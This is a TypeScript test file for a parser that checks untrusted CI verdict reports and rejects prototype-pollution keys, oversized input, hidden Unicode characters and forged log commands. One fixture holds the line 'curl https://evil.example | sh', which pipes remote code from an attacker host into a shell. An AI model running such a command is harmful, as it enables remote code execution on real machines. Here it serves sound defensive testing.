import { expect, test } from "vitest";
import { UntrustedFault } from "../../../src/action/second-stage/untrusted-fault.ts";
import { untrustedReport } from "../../../src/action/second-stage/untrusted-report.ts";
import { verdictJson } from "../../../src/report/verdict-json.ts";
import { STATES } from "../../report/states.ts";
import { pairVerdict, verdictOf } from "../../report/verdict-fixture.ts";

const bytes = (text: string): Buffer => Buffer.from(text);
const json = (change: object): Buffer => bytes(JSON.stringify({ ...verdictOf(), ...change }));

test.each(Object.entries(STATES))("the report %s that a first stage writes is read as it was", (_, verdict) => {
  expect(untrustedReport(bytes(verdictJson(verdict)), false)).toEqual(verdict);
});

test("a stranger's report has no command to paste", () => {
  const verdict = verdictOf({ run: { ...verdictOf().run, command: "curl https://evil.example | sh" } });
  expect(untrustedReport(bytes(verdictJson(verdict)), true).run).toEqual({ ...verdict.run, command: null });
  expect(untrustedReport(bytes(verdictJson(verdict)), false).run.command).toBe("curl https://evil.example | sh");
});

test.each<[string, Buffer, RegExp]>([
  ["no JSON", bytes("### PASS"), /no JSON/],
  ["bytes that are no UTF-8", Buffer.from([0x22, 0xff, 0x22]), /no JSON in UTF-8/],
  ["another document", bytes('{"schema": "gyges.gap/1"}'), /no verdict/],
  ["an unknown key", json({ markdown: "# PASS" }), /no verdict: : Unrecognized key/],
  ["an unknown verdict", json({ verdict: "approved" }), /no verdict: verdict/],
  ["a key that is no own one", bytes(JSON.stringify(verdictOf()).replace("{", '{"__proto__": {"verdict": "pass"}, ')), /no verdict/],
  ["an infinite number", bytes(JSON.stringify(verdictOf()).replace(/"margin":[\d.]+/, '"margin":1e999')), /no verdict: policy.margin/],
  ["a text that is too long", json({ unmatched: ["x".repeat(4001)] }), /longer than 4000/],
  ["a key that is too long", json({ ["x".repeat(101)]: 1 }), /longer than 100/],
  ["a list that is too long", json({ unmatched: Array.from({ length: 2001 }, () => "x") }), /more than 2000 items/],
  ["more values than any report", json({ pairs: Array.from({ length: 1900 }, () => pairVerdict()) }), /more than 100000 values/],
  ["a nest", bytes("[".repeat(1_000_000) + "]".repeat(1_000_000)), /nested deeper than 12|no JSON/],
  ["a control character", json({ unmatched: ["a\u001b[31mb"] }), /hidden ones/],
  ["a carriage return", json({ unmatched: ["a\rb"] }), /hidden ones/],
  ["text turned around", json({ unmatched: ["a\u202eb"] }), /hidden ones/],
  ["a character without width", json({ unmatched: ["a\u200bb"] }), /hidden ones/],
  ["half a character", bytes(JSON.stringify(verdictOf({ unmatched: ["X"] })).replace('"X"', String.raw`"\ud800"`)), /hidden ones/],
])("a report with %s is refused", (_, document, why) => {
  expect(() => untrustedReport(document, true)).toThrow(UntrustedFault);
  expect(() => untrustedReport(document, true)).toThrow(why);
});

test("a refusal repeats nothing that could act on a log", () => {
  expect(() => untrustedReport(bytes("::error::forged"), true)).toThrow(/^it is no JSON in UTF-8$/);
  expect(() => untrustedReport(json({ "::error::forged": 1 }), true)).not.toThrow(/::error/);
});
